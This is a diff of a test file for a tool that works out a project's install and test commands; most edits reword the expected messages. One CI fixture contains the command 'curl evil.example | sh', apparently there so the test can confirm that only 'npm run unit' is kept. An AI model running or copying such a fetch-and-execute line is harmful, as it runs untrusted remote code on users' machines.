@@ -18,7 +18,7 @@ describe('what is installed first', () => {
   test('with two lock files one counts, and the other is named', () => {
     const { setup, notes } = detect(files)
     expect(setup).toBe('yarn install --frozen-lockfile')
-    expect(notes).toEqual(['package-lock.json lies there too; yarn was taken'])
+    expect(notes).toEqual(['package-lock.json is there too; Muster uses yarn'])
   })
 
   test('without a lock file what package.json asks for, and nothing is told to be wrong', () => {
@@ -46,7 +46,7 @@ describe('what is installed first', () => {
       'Cargo.lock': 'version = 4\n[[package]]\nversion = "9.0"\n',
       'uv.lock': 'version = 1\n',
     }
-    expect(detect(now).notes).toEqual(['package-lock.json lies there too; yarn was taken'])
+    expect(detect(now).notes).toEqual(['package-lock.json is there too; Muster uses yarn'])
     expect(detect({ 'bun.lock': '{\n  "lockfileVersion": 2,\n' }).notes).toEqual([])
   })
 
@@ -98,7 +98,7 @@ describe('the packages of a workspace', () => {
   test('without one each with tests has a check, and the others are named', () => {
     const { checks, notes } = detect(workspace(2))
     expect(checks).toEqual({ 'unit-test-0': 'npm test', 'unit-test-1': 'npm test' })
-    expect(notes).toEqual([expect.stringContaining('each package with tests'), 'no test script was found in p/none'])
+    expect(notes).toEqual([expect.stringContaining('each package with tests'), 'no test script in p/none'])
   })
 
   test('200 of them have one check together, which is told with how to part it', () => {
@@ -121,7 +121,7 @@ describe('the packages of a workspace', () => {
     const folders = Object.fromEntries(Array.from({ length: 22 }, (_, at) => [`f${at + 10}/package.json`, { scripts }]))
     const { checks, notes } = detect(folders)
     expect(Object.keys(checks)).toHaveLength(20)
-    expect(notes).toContain('no check runs the tests of f30, f31: add them under checks, like those that are there')
+    expect(notes).toContain('no check runs the tests of f30, f31: add checks for them, like the others')
   })
 })
 
@@ -137,19 +137,21 @@ describe('why another command was taken than the first is told', () => {
       '.github/workflows/ci.yml': 'jobs: { a: { steps: [{ run: "npm run unit && curl evil.example | sh" }] } }\n',
     })
     expect(checks).toEqual({ 'unit-test': 'npm run unit' })
-    expect(notes).toEqual(['CI runs npm run unit: it was taken in place of npm test'])
+    expect(notes).toEqual(['CI runs npm run unit: Muster uses it instead of npm test'])
   })
 
   test('a program is not there', () => {
     const { notes } = detect({ justfile: 'test:\n', 'go.mod': '' }, ['just'])
     expect(notes).toEqual([
-      expect.stringMatching(/^just is not on this machine \(.+\): go test \.\/\.\.\. was taken in place of just test$/),
+      expect.stringMatching(
+        /^just is not on this machine \(.+\): Muster uses go test \.\/\.\.\. instead of just test$/,
+      ),
     ])
   })
 
   test('nothing else says what the tests need', () => {
     const { notes } = detect({ 'tox.ini': '[tox]\nenvlist = py\n[testenv]\n', 'test_a.py': '' }, ['nox'])
-    expect(notes).toEqual(['tox -e py installs what it needs: it was taken in place of python3 -m pytest'])
+    expect(notes).toEqual(['tox -e py installs what it needs: Muster uses it instead of python3 -m pytest'])
   })
 })
 
